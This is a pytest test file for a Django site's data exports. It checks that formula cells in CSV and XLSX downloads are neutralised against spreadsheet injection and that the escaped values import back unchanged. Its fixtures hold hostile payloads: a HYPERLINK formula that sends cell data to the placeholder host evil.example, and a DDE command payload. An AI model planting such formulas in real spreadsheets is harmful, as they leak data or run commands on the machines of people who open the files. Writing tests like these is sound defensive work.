"""Cells a spreadsheet would run as a formula are neutralised in every CSV and XLSX the site
writes (OWASP's CSV-injection advice): list downloads, the admin's export, the bulk files."""

import csv
import io
import json

import openpyxl
import pytest

from cases import bulk
from cases.models import Case
from servtrade.exports import FORMULA_TRIGGERS, neutralise, restore
from tests.cases.test_import import confirm, export, preview, problems, spreadsheet, world
from tests.factories import CaseFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
DANGEROUS_TITLES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]

__all__ = ["world"]  # the admin's import tests' fixture, used here too


@pytest.fixture
def dangerous_cases():
    return [
        CaseFactory(slug=f"dangerous-{number}", title_en=title, summary_en=title)
        for number, title in enumerate(DANGEROUS_TITLES)
    ]


def cells_of_csv(content):
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def cells_of_xlsx(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(texts):
    assert texts, "nothing was exported"
    for text in texts:
        assert not str(text).startswith(FORMULA_TRIGGERS), text


def test_neutralise_prefixes_exactly_the_dangerous_starts_and_restore_undoes_it():
    for title in DANGEROUS_TITLES:
        assert neutralise(title) == "'" + title
        assert restore(neutralise(title)) == title
    for harmless in ["Plain title", "数据跨境", "'quoted", "a=b", 42, None, True]:
        assert neutralise(harmless) == harmless
        assert restore(harmless) == harmless


@pytest.mark.parametrize("lang", ["en", "zh-hans"])
def test_the_list_csv_download_neutralises_formulas(client, dangerous_cases, lang):
    response = client.get(f"/{lang}/cases/?_export=csv")
    content = b"".join(response.streaming_content)
    cells = cells_of_csv(content)
    assert_no_formula(cells)
    assert "'" + HYPERLINK in cells


def test_the_list_xlsx_download_neutralises_formulas(client, dangerous_cases):
    cells = cells_of_xlsx(client.get("/en/cases/?_export=xlsx").getvalue())
    assert not any(cell.data_type == "f" for cell in cells)
    assert_no_formula([cell.value for cell in cells if isinstance(cell.value, str)])
    assert "'" + HYPERLINK in [cell.value for cell in cells]


def test_the_json_download_keeps_the_text_as_it_is(client, dangerous_cases):
    content = b"".join(client.get("/en/cases/?_export=json").streaming_content).decode()
    assert '"=HYPERLINK(' in content


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_admin_export_neutralises_formulas_and_imports_back_unchanged(
    admin_client, world, dangerous_cases, extension
):
    dataset = export(admin_client, extension)
    texts = [cell for row in dataset for cell in row if isinstance(cell, str)]
    assert_no_formula(texts)
    assert "'" + HYPERLINK in texts

    previewed = preview(admin_client, spreadsheet(dataset.dict, extension), extension)
    assert problems(previewed) == []
    confirm(admin_client, previewed)
    titles = set(Case.objects.values_list("title_en", flat=True))
    # The import trims the spaces (tab, CR) around a title, as it always did.
    assert {title.strip() for title in DANGEROUS_TITLES} <= titles, titles


def test_the_bulk_csv_and_xlsx_neutralise_formulas(dangerous_cases, settings, tmp_path):
    settings.BULK_FILES_DIR = tmp_path
    settings.SITE_URL = "http://testserver"
    bulk.build()
    cells = cells_of_csv((tmp_path / "servtrade-cases.csv").read_bytes())
    assert_no_formula(cells)
    assert "'" + HYPERLINK in cells
    xlsx = cells_of_xlsx((tmp_path / "servtrade-cases.xlsx").read_bytes())
    assert not any(cell.data_type == "f" for cell in xlsx)
    assert "'" + HYPERLINK in [cell.value for cell in xlsx]
    titles = [
        row["title_en"] for row in json.loads((tmp_path / "servtrade-cases.json").read_text())
    ]
    assert HYPERLINK in titles
